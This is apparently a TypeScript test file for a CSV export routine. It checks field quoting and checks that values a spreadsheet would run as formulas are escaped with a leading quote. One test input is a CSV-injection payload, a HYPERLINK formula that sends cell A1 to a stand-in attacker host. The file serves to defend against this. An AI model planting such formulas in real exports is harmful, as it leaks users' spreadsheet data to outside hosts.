import t from 'tap'
import { toCsv } from '../../src/routes/csv.ts'
import { FORMULA_START, spreadsheetCells } from '../helpers/spreadsheet-csv.ts'

t.test('fields with commas, quotes or line breaks are quoted, quotes doubled; empty for null', async t => {
  t.equal(toCsv(['a', 'b', 'c'], [{ a: 'x,y', b: 'say "hi"', c: null }, { a: 'two\nlines', b: 1.5, c: undefined }]),
    'a,b,c\r\n"x,y","say ""hi""",\r\n"two\nlines",1.5,\r\n')
})

t.test('text a spreadsheet would run as a formula is written as text, whatever separator the spreadsheet splits on', async t => {
  const written: Array<[string, string]> = [
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
    ['=1+2', "'=1+2"],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+2', "'\t'=1+2"],
    ['\r=1+2', "'\r'=1+2"],
    ['a;=1+2', "a;'=1+2"],
    ['a\t=1+2', "a\t'=1+2"],
    ['gpt-4.1, then @home', 'gpt-4.1, then @home'],
    ['gpt-4.1,@home', "gpt-4.1,'@home"]
  ]
  const csv = toCsv(['model', 'costUsd'], written.map(([model]) => ({ model, costUsd: 0.5 })))
  t.same(spreadsheetCells(csv).slice(1).map(row => row[0]), written.map(([, cell]) => cell), 'a quote before each formula start, nothing else changed')
  for (const separator of [',', ';', '\t'] as const) {
    const cells = spreadsheetCells(csv, separator).flat()
    t.same(cells.filter(cell => FORMULA_START.test(cell)), [], `read with ${JSON.stringify(separator)}: no cell starts a formula`)
  }
})

t.test('numbers stay numbers, signs included; text that looks like one is still text', async t => {
  const rows = spreadsheetCells(toCsv(['a', 'b', 'c', 'd'], [{ a: -0.25, b: 0, c: '-1', d: Number.NEGATIVE_INFINITY }]))
  t.same(rows[1], ['-0.25', '0', "'-1", "'-Infinity"])
})
